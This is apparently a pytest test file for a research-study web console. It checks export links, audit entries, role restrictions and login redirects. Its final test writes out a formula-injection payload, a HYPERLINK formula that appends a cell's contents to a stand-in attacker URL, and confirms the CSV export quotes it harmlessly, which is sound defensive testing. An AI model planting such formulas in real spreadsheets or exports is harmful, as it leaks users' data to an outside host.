"""The console's Exports section: links to every export and the report, identities apart."""

import csv
import io
import re

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine, select
from sqlalchemy.orm import Session

from app.main import create_app
from app.models import AuditEntry, Role, Study
from app.services import accounts
from tests.prebuilt import Prebuilt, build_once, restored
from tests.reports.study import two_rounds
from tests.web.test_console import new_study, signed_in


def _study(client: TestClient, session: Session) -> int:
    """The two-round study of tests/reports, run by lead@example.org (signed in below)."""
    signed_in(session)
    lead = session.scalars(
        select(accounts.User).where(accounts.User.email == "lead@example.org")
    ).one()
    token = accounts.create_api_token(session, user=lead, label="tests")
    session.commit()
    return two_rounds(client, token, session, lead).study_id


@pytest.fixture(scope="session")
def study_once(database_url: str, tmp_path_factory: pytest.TempPathFactory) -> Prebuilt[int]:
    return build_once(database_url, tmp_path_factory.mktemp("console_exports"), _study)


@pytest.fixture
def study_id(study_once: Prebuilt[int], engine: Engine, client: TestClient) -> int:
    """The two-round study's id, its rows restored into this test's database."""
    return restored(study_once, engine, client)


def _exports_section(page: str) -> str:
    match = re.search(r'<section class="card" id="exports">.*?</section>', page, re.S)
    assert match, "no Exports section"
    return match.group(0)


def test_the_study_page_links_every_export_and_the_report(study_id: int, session: Session) -> None:
    web = signed_in(session)
    section = _exports_section(web.get(f"/console/studies/{study_id}").text)
    links = re.findall(r'href="([^"]+)"', section)
    assert links == [
        f"/console/studies/{study_id}/export.csv",
        f"/console/studies/{study_id}/export.xlsx",
        f"/console/studies/{study_id}/export.json",
        f"/console/studies/{study_id}/report.html",
        f"/console/studies/{study_id}/report.pdf",
        f"/console/studies/{study_id}/panel.csv",
    ]
    assert "coordinators only" in section


def test_a_console_download_is_the_export_and_is_audited(study_id: int, session: Session) -> None:
    web = signed_in(session)
    response = web.get(f"/console/studies/{study_id}/export.csv")
    assert response.status_code == 200
    assert response.headers["content-disposition"].startswith("attachment;")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == 38
    assert rows[0]["panelist"] == "P01"
    panel = web.get(f"/console/studies/{study_id}/panel.csv")
    assert "expert0@example.org" in panel.text
    session.rollback()  # a fresh snapshot: the app committed in its own sessions
    entries = session.scalars(
        select(AuditEntry).where(AuditEntry.action.like("export.%")).order_by(AuditEntry.id)
    ).all()
    assert [(e.action, e.detail, e.actor_label) for e in entries] == [
        ("export.csv", {"via": "console"}, "lead@example.org"),
        ("export.panel", {"via": "console"}, "lead@example.org"),
    ]


def test_an_observer_sees_no_panel_export_and_is_refused_it(
    study_id: int, session: Session
) -> None:
    web = signed_in(session, email="watcher@example.org", role=Role.observer)
    lead = session.scalars(
        select(accounts.User).where(accounts.User.email == "lead@example.org")
    ).one()
    study = session.get_one(Study, study_id)
    accounts.add_member(session, actor=lead, study=study, email="watcher@example.org")
    session.commit()
    section = _exports_section(web.get(f"/console/studies/{study_id}").text)
    assert "panel.csv" not in section
    assert "export.xlsx" in section
    refused = web.get(f"/console/studies/{study_id}/panel.csv")
    assert refused.status_code == 403
    assert "Expert 0" not in refused.text
    assert "cannot export panelists" in refused.text
    assert web.get(f"/console/studies/{study_id}/export.xlsx").status_code == 200


def test_a_study_that_is_not_yours_or_an_unknown_format_is_not_found(
    study_id: int, session: Session
) -> None:
    web = signed_in(session, email="other@example.org")
    assert web.get(f"/console/studies/{study_id}/export.csv").status_code == 404
    assert web.get(f"/console/studies/{study_id}/panel.csv").status_code == 404
    lead = signed_in(session)
    assert lead.get(f"/console/studies/{study_id}/export.pdf").status_code == 404


def test_exports_need_a_signed_in_coordinator(study_id: int) -> None:
    anonymous = TestClient(create_app(), follow_redirects=False)
    response = anonymous.get(f"/console/studies/{study_id}/export.json")
    assert response.status_code == 303
    assert response.headers["location"].startswith("/login")


def test_the_audit_csv_is_an_export_whose_hostile_cells_come_out_as_text(session: Session) -> None:
    """An actor or detail a spreadsheet would run as a formula is quoted, as in every CSV export."""
    web = signed_in(session)
    study_id = new_study(web)
    hostile = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
    session.add_all(
        [
            AuditEntry(
                study_id=study_id, actor_label=hostile, action="study.update", detail={"x": 1}
            ),
            AuditEntry(study_id=study_id, actor_label="@SUM(1)", action="+x", detail=-1),
        ]
    )
    session.commit()
    response = web.get(f"/console/studies/{study_id}/audit.csv")
    assert response.status_code == 200
    assert response.headers["content-disposition"].startswith("attachment;")
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[0] == ["id", "at", "who", "action", "detail"]
    assert ["'" + hostile, "study.update", '{"x": 1}'] in [row[2:] for row in rows]
    assert ["'@SUM(1)", "'+x", "'-1"] in [row[2:] for row in rows]
    cells = [cell for row in rows[1:] for cell in row[2:]]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    session.rollback()  # a fresh snapshot: the app committed in its own sessions
    taken = session.scalars(select(AuditEntry).where(AuditEntry.action == "export.audit")).all()
    assert [(e.study_id, e.actor_label) for e in taken] == [(study_id, "lead@example.org")]
